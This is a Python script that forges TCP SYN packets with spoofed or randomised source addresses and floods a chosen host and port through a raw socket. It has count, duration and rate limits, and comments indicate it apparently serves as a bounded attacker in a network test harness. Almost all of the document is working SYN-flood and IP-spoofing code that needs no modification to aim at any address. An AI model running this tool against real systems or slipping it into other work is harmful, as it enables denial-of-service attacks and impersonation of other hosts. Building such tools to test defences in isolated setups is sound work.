#!/usr/bin/python3
"""Send forged TCP SYNs through a raw socket: a bounded spoofing attacker.

  synflood.py DST DPORT --count N [--src ADDR | --random-src CIDR] [--seconds S]
              [--pps R] [--exclude ADDR ...]

Sources come from --src (impersonating one host) or uniformly from
--random-src, never one of --exclude. --pps paces the flood to at most R
packets a second. Stops after N packets or S seconds, whichever comes
first, or at SIGTERM; prints how many it sent."""
import argparse
import ipaddress
import random
import signal
import socket
import struct
import time

from inetsum import csum


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("dport", type=int)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--src")
    ap.add_argument("--random-src")
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--pps", type=float, default=0.0)
    ap.add_argument("--exclude", nargs="*", default=[])
    a = ap.parse_args()
    dst = socket.inet_aton(a.dst)
    net = ipaddress.ip_network(a.random_src) if a.random_src else None
    fixed = socket.inet_aton(a.src) if a.src else None
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(7)
    exclude = {socket.inet_aton(x) for x in a.exclude}
    start = time.monotonic()
    deadline = start + a.seconds
    sent = 0
    # SIGTERM ends the flood early, still printing how many were sent: a
    # test stops it once its measurements are done instead of waiting out S
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    while sent < a.count and time.monotonic() < deadline and not stop:
        if a.pps and sent % 64 == 0:
            time.sleep(max(0.0, start + sent / a.pps - time.monotonic()))
        if fixed:
            src = fixed
        else:
            src = (net.network_address + rng.randrange(1, net.num_addresses - 1)).packed
            if src in exclude:
                continue
        pkt = syn(src, dst, rng.randrange(1024, 65535), a.dport, rng.getrandbits(32))
        try:
            s.sendto(pkt, (a.dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)  # the veth queue is full: back off, stay bounded
    print(sent)


if __name__ == "__main__":
    main()
